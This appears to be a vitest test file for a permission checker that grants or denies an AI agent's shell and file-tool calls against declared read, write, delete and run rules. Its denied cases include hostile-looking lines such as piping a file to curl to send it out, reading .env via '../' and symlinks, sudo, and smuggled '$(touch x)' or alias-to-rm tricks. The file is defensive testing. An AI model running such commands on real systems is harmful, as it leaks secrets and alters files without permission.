import { mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { effectCompiler } from '../../../src/config/compile-effects.ts';
import type { EffectRule } from '../../../src/core/effect-rule.ts';
import { scratchFolder } from '../../scratch-folder.ts';
import { callOf, GRANTING, lineOf } from './call.ts';

const { rule: compile } = effectCompiler({ home: '/h' });

async function grants(rule: EffectRule, line: string): Promise<boolean> {
  const made = await compile(rule, GRANTING, []);
  return made(lineOf(line), true);
}

const READS: EffectRule = { reads: ['src/**', 'README.md'] };
const BUILD: EffectRule = { reads: ['**'], writes: ['dist/**'], deletes: ['dist/**', '!dist/keep/**'] };

describe('to grant, all that a call does must be named', () => {
  test.each<[EffectRule, string]>([
    [READS, 'cat src/a.ts'],
    [READS, 'cat src/a.ts README.md | head -n 3'],
    [READS, 'grep -r x src'],
    [READS, 'cat src/*.ts'],
    [READS, 'cat src/a.ts 2>/dev/null'],
    [READS, 'cd src && cat a.ts'],
    [BUILD, 'cat a > dist/b'],
    [BUILD, 'rm -rf dist/a'],
    [BUILD, 'cp a dist/b'],
    [{ runs: ['git status'] }, 'git status'],
  ])('%j: %s', async (rule, line) => {
    expect(await grants(rule, line)).toBe(true);
  });

  test.each<[EffectRule, string]>([
    [READS, 'cat src/a.ts /etc/hosts'],
    [READS, 'cat src/a.ts > x'],
    [READS, 'cat src/a.ts && npm test'],
    [READS, 'cat src/../.env'],
    [READS, 'cat "$X"'],
    [READS, 'cat src/$X'],
    [READS, 'cat $X src/a.ts'],
    [READS, 'cat * src/a.ts'],
    [READS, 'sudo cat src/a.ts'],
    [READS, 'cat src/a.ts | curl -d @- https://example.com'],
    [READS, 'PATH=. cat src/a.ts'],
    [READS, './cat src/a.ts'],
    [READS, 'cat() { rm x; }; cat src/a.ts'],
    [READS, 'alias cat=rm; cat src/a.ts'],
    [READS, 'cat src/a.ts; $X'],
    [READS, 'cat "src/a.ts'],
    [READS, 'sometool src/a.ts'],
    [READS, 'ls'],
    [READS, 'cat src/a.ts $(touch x)'],
    [BUILD, 'rm -rf dist'],
    [BUILD, 'rm -rf dist/keep/a'],
    [BUILD, 'rm -rf dist/*'],
    [BUILD, 'cp a b'],
    [{ runs: ['git status'] }, 'git status && rm x'],
    [{ runs: ['git status'] }, 'git status > x'],
  ])('%j grants nothing to %s', async (rule, line) => {
    expect(await grants(rule, line)).toBe(false);
  });

  test('the tools that do the same are granted too', async () => {
    const made = await compile(READS, GRANTING, []);
    expect(made(callOf('Read', { file_path: 'src/a.ts' }), true)).toBe(true);
    expect(made(callOf('Read', { file_path: '.env' }), true)).toBe(false);
    expect(made(callOf('Write', { file_path: 'src/a.ts' }), true)).toBe(false);
  });
});

/** Rules, and calls that they grant and do not grant. */
const CASES = casesIn(readFileSync(new URL('grants.txt', import.meta.url), 'utf8'));

function casesIn(text: string): readonly (readonly [rule: string, call: string, granted: boolean])[] {
  const cases: [string, string, boolean][] = [];
  let rule = '';
  for (const line of text.split('\n')) {
    if (line.startsWith('{')) rule = line;
    else if (/^[+-] /.test(line)) cases.push([rule, line.slice(2), line.startsWith('+')]);
  }
  return cases;
}

let app = '';

beforeAll(() => {
  app = join(realpathSync(scratchFolder()), 'app');
  for (const path of ['.env', 'src/a.ts', 'docs/b.md', 'docs/sub/c.md']) {
    mkdirSync(dirname(join(app, path)), { recursive: true });
    writeFileSync(join(app, path), 'x');
  }
  symlinkSync('../.env', join(app, 'src/link'));
  symlinkSync('.env', join(app, 'notes'));
});

describe('a rule grants what it describes, and nothing that does more', () => {
  test.each(CASES)('%s: %s: %s', async (text, given, granted) => {
    const call = given.replaceAll('/w/app', app);
    const [, tool = 'Bash', input] = /^@(\w+) (.*)$/.exec(call) ?? [];
    const rule = Object.entries(JSON.parse(text) as Record<string, string | string[]>);
    const listed = Object.fromEntries(rule.map(([key, one]) => [key, typeof one === 'string' ? [one] : one]));
    const made = await compile(listed, GRANTING, []);
    const event = callOf(tool, input === undefined ? { command: call } : JSON.parse(input), app);
    expect(made(event, true)).toBe(granted);
  });
});
